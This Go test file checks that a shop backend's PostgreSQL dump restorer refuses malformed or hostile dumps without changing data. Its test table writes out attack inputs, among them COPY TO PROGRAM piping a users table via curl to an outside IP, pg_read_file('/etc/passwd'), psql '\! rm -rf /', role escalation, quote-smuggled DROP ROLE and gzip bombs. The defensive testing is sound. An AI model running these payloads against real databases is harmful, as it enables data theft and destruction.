package dump_test

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"grocery/backend/dump"
)

const goodUser = "INSERT INTO users VALUES(1,'ann','ann@example.com','scrypt:32768:8:1$salt$00',NULL,NULL,NULL);\n"

// hostile are dumps that must be refused: what is wrong, the dump, and what the
// refusal says.
var hostile = []struct {
	name string
	data func() []byte
	code dump.Code
	says string
	line int64 // 0: not looked at
}{
	{"nothing at all", lit(""), dump.Format, "empty", 0},
	{"comments alone", lit("-- a dump\n/* of nothing */\n"), dump.Format, "no SQL statement", 0},
	{"a picture", lit("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), dump.Encoding, "not UTF-8", 1},
	{"an SQLite file", lit("SQLite format 3\x00"), dump.Format, "SQLite", 0},
	{"a zip file", lit("PK\x03\x04rest"), dump.Format, "gzip", 0},
	{"text in UTF-16", lit("\xff\xfeI\x00N\x00S\x00"), dump.Encoding, "UTF-16", 0},
	{"text in Latin 1", with("INSERT INTO products VALUES(2,'Caf\xe9','',1,'Drinks','',false);\n"), dump.Encoding, "UTF-8", 6},
	{"another client encoding", with("SET client_encoding = 'LATIN1';\n"), dump.Encoding, "LATIN1", 6},
	{"a NUL byte in a value", with("INSERT INTO products VALUES(2,'a\x00b','',1,'Drinks','',false);\n"), dump.Encoding, "NUL", 6},
	{"a NUL by an escape", with(`INSERT INTO products VALUES(2,E'a\000b','',1,'Drinks','',false);`), dump.Encoding, "byte 0", 6},
	{"cut off within a value", func() []byte { d := small(2); return d[:len(d)-30] }, dump.Truncated, "ends within", 6},
	{"cut off within a statement", with("INSERT INTO products VALUES(2,'a'"), dump.Truncated, "ends within", 6},
	{"cut off between tables", lit(goodUser[:0] + "CREATE TABLE users (id int);\nCREATE TABLE products (id int);\n"), dump.Table, "lacks this table", 0},
	{"cut off before pg_dump's last words", with("-- PostgreSQL database dump\n"), dump.Truncated, "closing comment", 0},
	{"cut off within a transaction", with("BEGIN;\n"), dump.Truncated, "COMMIT", 0},
	{"cut off within COPY", with("COPY products (id, name, price, category) FROM stdin;\n2\tTea\t1.5\tDrinks\n"), dump.Truncated, `"\."`, 0},
	{"a gzip file cut off", func() []byte { z := zipped(oldShop()); return z[:len(z)/2] }, dump.Truncated, "cut off", 0},
	{"a gzip file with a wrong checksum", func() []byte { z := zipped(oldShop()); z[len(z)-5] ^= 1; return z }, dump.Format, "damaged", 0},
	{"gzip in gzip", func() []byte { return zipped(zipped(oldShop())) }, dump.Format, "twice", 0},
	{"a gzip bomb of spaces", bomb(' '), dump.TooLarge, "attack", 0},
	{"a gzip bomb in one value", func() []byte { return zipped([]byte("INSERT INTO users VALUES(1,'" + strings.Repeat("x", 3<<20))) }, dump.Column, "names no columns", 0},
	{"a huge value", with("INSERT INTO products VALUES(2,'" + strings.Repeat("x", 2<<20) + "','',1,'Drinks','',false);\n"), dump.TooLarge, "limit", 6},
	{"a huge line of COPY", with("COPY products (id, name, price, category) FROM stdin;\n2\t" + strings.Repeat("x", 2<<20) + "\t1\tTea\n\\.\n"), dump.TooLarge, "limit", 7},
	{"a huge name", with("CREATE TABLE " + strings.Repeat("x", 2<<20) + " (id int);"), dump.Syntax, "name or number", 6},
	{"COPY TO PROGRAM", with("COPY users TO PROGRAM 'curl http://198.51.100.1/ -d @-';\n"), dump.Statement, "COPY ... TO", 6},
	{"COPY of a query TO PROGRAM", with("COPY (SELECT 1) TO PROGRAM 'id';\n"), dump.Statement, "of a query", 6},
	{"COPY FROM PROGRAM", with("COPY users FROM PROGRAM 'id';\n"), dump.Statement, "FROM PROGRAM", 6},
	{"COPY FROM a file of the server", with("COPY users FROM '/etc/passwd';\n"), dump.Statement, "FROM a file", 6},
	{"DROP ROLE", with("DROP ROLE grocery;\n"), dump.Statement, "DROP", 6},
	{"ALTER ROLE", with("ALTER ROLE grocery SUPERUSER;\n"), dump.Statement, "ALTER", 6},
	{"membership in a role", with("GRANT rds_superuser TO grocery;\n"), dump.Statement, "of a role", 6},
	{"DROP DATABASE", with("DROP DATABASE grocery;\n"), dump.Statement, "DROP", 6},
	{"DROP TABLE after the rows", with("DROP TABLE products;\n"), dump.Statement, "after rows", 6},
	{"DELETE", with("DELETE FROM users;\n"), dump.Statement, "DELETE", 6},
	{"UPDATE", with("UPDATE users SET password = 'x';\n"), dump.Statement, "UPDATE", 6},
	{"DO with a block of code", with("DO $$ BEGIN PERFORM 1; END $$;\n"), dump.Statement, "DO", 6},
	{"CREATE EXTENSION", with("CREATE EXTENSION dblink;\n"), dump.Statement, "CREATE", 6},
	{"CREATE FUNCTION", with("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT 1$$;\n"), dump.Statement, "FUNCTION", 6},
	{"SELECT of a function", with("SELECT pg_read_file('/etc/passwd');\n"), dump.Statement, "SELECT", 6},
	{"SET ROLE", with("SET ROLE rdsadmin;\n"), dump.Statement, "SET", 6},
	{"ROLLBACK", with("BEGIN;\nROLLBACK;\n"), dump.Statement, "ROLLBACK", 7},
	{`psql's \!`, with("\\! rm -rf /\n"), dump.Statement, "psql", 6},
	{`psql's \copy`, with("\\copy users from /etc/passwd\n"), dump.Statement, "psql", 6},
	{`psql's \connect`, with("\\connect postgres\n"), dump.Statement, "psql", 6},
	{"INSERT of a query", with("INSERT INTO users SELECT * FROM pg_shadow;\n"), dump.Syntax, "VALUES", 6},
	{"a function as a value", with("INSERT INTO products VALUES(2,pg_read_file('x'),'',1,'Tea','',false);\n"), dump.Syntax, "plain value", 6},
	{"a query as a value", with("INSERT INTO products VALUES(2,(SELECT 'x'),'',1,'Tea','',false);\n"), dump.Syntax, "plain value", 6},
	{"two values put together", with("INSERT INTO products VALUES(2,'a'||'b','',1,'Tea','',false);\n"), dump.Syntax, "expressions", 6},
	{"a value quoted by dollar signs", with("INSERT INTO products VALUES(2,$a$x$a$,'',1,'Tea','',false);\n"), dump.Syntax, "dollar", 6},
	{"a dollar quote that never ends", with("CREATE FUNCTION bump_catalogue_version() AS $a$ x $b$;\n"), dump.Truncated, "$a$", 6},
	{"a comment that never ends", with("/* /* nested */ DROP ROLE grocery;\n"), dump.Truncated, "comment", 6},
	{"comments nested without end", with(strings.Repeat("/*", 100000)), dump.Syntax, "nested", 6},
	{"parentheses nested without end", with("CREATE INDEX i ON users " + strings.Repeat("(", 100000)), dump.Syntax, "nested", 6},
	{"a quote within a name", with(`INSERT INTO "products""; DROP ROLE grocery; --" VALUES(1);`), dump.Table, "no table", 6},
	{"a table that is not the shop's", with("CREATE TABLE passwords (id int);\n"), dump.Table, "passwords", 6},
	{"rows of a table of the system", with("INSERT INTO pg_authid VALUES(1);\n"), dump.Table, "pg_authid", 6},
	{"another schema", with("INSERT INTO pg_catalog.users VALUES(1);\n"), dump.Table, "schema", 6},
	{"a table created twice", with("CREATE TABLE users (id int);\n"), dump.Table, "twice", 6},
	{"an unknown column", with("INSERT INTO users (id, username, email, password, is_admin) VALUES(1,'a','a@b.de','scrypt:x',true);\n"), dump.Column, "is_admin", 6},
	{"a column that is missing", with("INSERT INTO users (id, username, password) VALUES(1,'a','scrypt:x');\n"), dump.Column, "email", 6},
	{"a column added later", with("ALTER TABLE users ADD COLUMN is_admin boolean;\n"), dump.Statement, "ADD", 6},
	{"too few values", with("INSERT INTO users VALUES(1,'a');\n"), dump.Column, "2 values for 7", 6},
	{"too many values", with("INSERT INTO users VALUES(1,2,3,4,5,6,7,8);\n"), dump.Column, "more than 7", 6},
	{"rows of both shops", with("INSERT INTO reviews (id, product_id, user_id, author, rating) VALUES(1,1,NULL,'a',5);\n"), dump.Column, "mixes", 6},
	{"no product", lit(smallSchema + goodUser), dump.Table, "no product", 0},
	{"the same id twice", with("INSERT INTO products VALUES(1,'Tea','',1,'Tea','',false);\n"), dump.Duplicate, "same id", 6},
	{"the same e-mail address twice", with(goodUser + strings.NewReplacer("(1", "(2", "ann@e", "ANN@e").Replace(goodUser)), dump.Duplicate, "e-mail", 7},
	{"a review of no product", with("INSERT INTO reviews VALUES(1,77,'a',5,'x');\n"), dump.Reference, "77", 6},
	{"a basket of nobody", with("INSERT INTO basket_items VALUES(1,1,1,5);\n"), dump.Reference, "user_id is 5", 6},
	{"a price that is none", with("INSERT INTO products VALUES(2,'Tea','','NaN','Tea','',false);\n"), dump.Value, "NaN", 6},
	{"a price beyond measure", with("INSERT INTO products VALUES(2,'Tea','',1e999999999,'Tea','',false);\n"), dump.Value, "1e999", 6},
	{"a price below nothing", with("INSERT INTO products VALUES(2,'Tea','',-0.01,'Tea','',false);\n"), dump.Value, "-0.01", 6},
	{"a rating of six", with("INSERT INTO reviews VALUES(1,1,'a',6,'x');\n"), dump.Value, "rating", 6},
	{"a comment too long", with("INSERT INTO reviews VALUES(1,1,'a',5,'" + strings.Repeat("ü", 501) + "');\n"), dump.Value, "501", 6},
	{"an id beyond numbers", with("INSERT INTO products VALUES(99999999999999999999,'Tea','',1,'Tea','',false);\n"), dump.Value, "whole number", 6},
	{"a password that can be read", with(strings.Replace(goodUser, "scrypt:32768:8:1$salt$00", "hunter2", 1)), dump.Value, "password", 6},
	{"an e-mail address that is none", with(strings.Replace(goodUser, "ann@example.com", "<b>", 1)), dump.Value, "e-mail", 6},
	{"an order of a state that is none", newOrder("'lost','due',NULL,NULL,NULL,NULL"), dump.Value, `"lost"`, 6},
	{"an order that is pending and paid", newOrder("'pending','paid',NULL,NULL,NULL,NULL"), dump.Value, "pending", 6},
	{"an address that is no JSON", newOrder("'placed','due','Long Lane',NULL,NULL,NULL"), dump.Value, "JSON of an address", 6},
	{"an address with more in it", newOrder(`'placed','due','{"name":"a","street":"b","postal_code":"1","city":"c","country":"DE","is_admin":true}',NULL,NULL,NULL`), dump.Value, "JSON of an address", 6},
	{"an address nowhere", newOrder(`'placed','due','{"name":"a","street":"b","postal_code":"1","city":"c","country":"XX"}',NULL,NULL,NULL`), dump.Value, "country", 6},
	{"an idempotency key of another form", newOrder("'placed','due',NULL,'a b',NULL,NULL"), dump.Value, "idempotency_key", 6},
	{"a digest that is too short", newOrder(`'placed','due',NULL,NULL,'\x00ff',NULL`), dump.Value, "SHA-256", 6},
	{"one payment for two orders", newOrder("'placed','due',NULL,NULL,NULL,'REF'),(2,NULL,1,0,'placed','due',NULL,NULL,NULL,'REF'"), dump.Duplicate, "payment reference", 6},
	{"backslashes that mean something else", with("SET standard_conforming_strings = off;\n"), dump.Format, "standard_conforming_strings", 6},
	{"an archive cut off in its contents", func() []byte { return []byte("PGDMP\x01\x0e\x00\x04\x08\x01") }, dump.Truncated, "cut off", 0},
	{"an archive of a version to come", lit("PGDMP\x02\x00\x00\x04\x08\x01"), dump.Format, "version 2.0", 0},
	{"an archive with a text of 2 GB", func() []byte { return archiveHead(2<<30 - 1) }, dump.TooLarge, "limit", 0},
}

func lit(s string) func() []byte { return func() []byte { return []byte(s) } }

// with returns a good dump with something after it, in line 6.
func with(s string) func() []byte { return func() []byte { return append(small(1), s...) } }

// newOrder returns a good dump of our shop and an order with these values from the
// status on.
func newOrder(values string) func() []byte {
	return func() []byte {
		schema := strings.NewReplacer("price real", "price_cents int", "password text, fav_products text, purchased_products text", "password_hash text").Replace(smallSchema)
		return []byte(schema + "INSERT INTO products VALUES(1,'Apple','',99,'Fruit','',false);\n" +
			"INSERT INTO orders (id, user_id, subtotal_cents, delivery_cents, status, payment_status, address, idempotency_key, request_sha256, payment_reference) VALUES(1,NULL,1,0," +
			values + ");\n")
	}
}

// bomb is a small gzip file of 32 MiB of one character.
func bomb(c byte) func() []byte {
	return func() []byte {
		var b bytes.Buffer
		w, _ := gzip.NewWriterLevel(&b, gzip.BestSpeed)
		chunk := bytes.Repeat([]byte{c}, 1<<20)
		for range 32 {
			w.Write(chunk)
		}
		w.Close()
		return b.Bytes()
	}
}

// archiveHead is the beginning of an archive whose first text claims a length.
func archiveHead(length int) []byte {
	b := []byte("PGDMP\x01\x0e\x00\x04\x08\x01")
	for range 8 {
		b = append(b, 0, 1, 0, 0, 0)
	}
	return binary.LittleEndian.AppendUint32(append(b, 0), uint32(length))
}

func TestABrokenOrHostileDumpIsRefusedAndChangesNothing(t *testing.T) {
	db := inUse(t)
	conn := connect(t, db)
	before := fingerprint(t, conn)
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			report, err := dump.Restore(t.Context(), conn, bytes.NewReader(tt.data()), dump.Options{})
			fault := invalidDump(t, err)
			if fault.Code != tt.code || !strings.Contains(fault.Reason, tt.says) || tt.line > 0 && fault.Line != tt.line {
				t.Errorf("%v\nwant line %d, code %s, saying %q", err, tt.line, tt.code, tt.says)
			}
			if len(err.Error()) > 400 {
				t.Errorf("the error has %d bytes", len(err.Error()))
			}
			if report == nil || len(report.Replaced) > 0 {
				t.Errorf("report %+v", report)
			}
			if after := fingerprint(t, conn); after != before {
				t.Error("the data has changed")
			}
		})
	}
	var leftovers int64
	db.QueryRow(t, "SELECT count(*) FROM pg_class WHERE relname LIKE 'stage%'", &leftovers)
	if leftovers != 0 {
		t.Errorf("%d staging tables are left", leftovers)
	}
	restore(t, db, oldShop()) // and the next good one works
}

// fingerprint changes when any row of the shop does, or the row versions of any.
func fingerprint(t testing.TB, conn *pgx.Conn) (sum string) {
	t.Helper()
	sql := "SELECT concat((SELECT version FROM catalogue_version), (SELECT count(*) FROM restores)"
	for _, table := range tables {
		sql += ", (SELECT md5(string_agg(concat(t.xmin, t.ctid, t), ',' ORDER BY t.ctid)) FROM " + table + " t)"
	}
	if err := conn.QueryRow(t.Context(), sql+")").Scan(&sum); err != nil {
		t.Fatal(err)
	}
	return sum
}

func TestAnArchiveCutOffAnywhereIsRefused(t *testing.T) {
	db := inUse(t)
	data := db.Dump(t, "-Fc")
	for _, part := range []int{1, 5, 20, 60, 90, 99} {
		_, err := dump.Inspect(bytes.NewReader(data[:len(data)*part/100]), dump.Limits{})
		if fault := invalidDump(t, err); fault.Code != dump.Truncated {
			t.Errorf("at %d%%: %v", part, err)
		}
	}
	for i := range 200 { // one byte changed
		broken := bytes.Clone(data)
		broken[len(data)*i/200] ^= 0x55
		if report, err := dump.Inspect(bytes.NewReader(broken), dump.Limits{}); err == nil && report.Read["products"] != oldProducts {
			t.Errorf("byte %d: accepted, with %v", len(data)*i/200, report.Read)
		}
	}
}

func TestLimitsHold(t *testing.T) {
	for name, limits := range map[string]dump.Limits{"bytes": {Bytes: 1000}, "rows": {Rows: 10}, "one value": {Value: 40}} {
		_, err := dump.Inspect(bytes.NewReader(oldShop()), limits)
		if fault := invalidDump(t, err); fault.Code != dump.TooLarge {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestABrokenConnectionIsNotTheDumpsFault(t *testing.T) {
	db := inUse(t)
	before := contents(t, db)
	for name, data := range map[string][]byte{"plain": oldShop(), "compressed": zipped(oldShop()), "an archive": db.Dump(t, "-Fc")} {
		broken := io.MultiReader(bytes.NewReader(data[:len(data)/2]), brokenReader{})
		_, err := dump.Restore(t.Context(), connect(t, db), broken, dump.Options{})
		if _, ok := err.(*dump.SourceError); !ok {
			t.Errorf("%s: %T %v, want a *SourceError", name, err, err)
		}
		if contents(t, db) != before {
			t.Errorf("%s: the data has changed", name)
		}
	}
}

type brokenReader struct{}

func (brokenReader) Read([]byte) (int, error) { return 0, fmt.Errorf("connection reset by peer") }
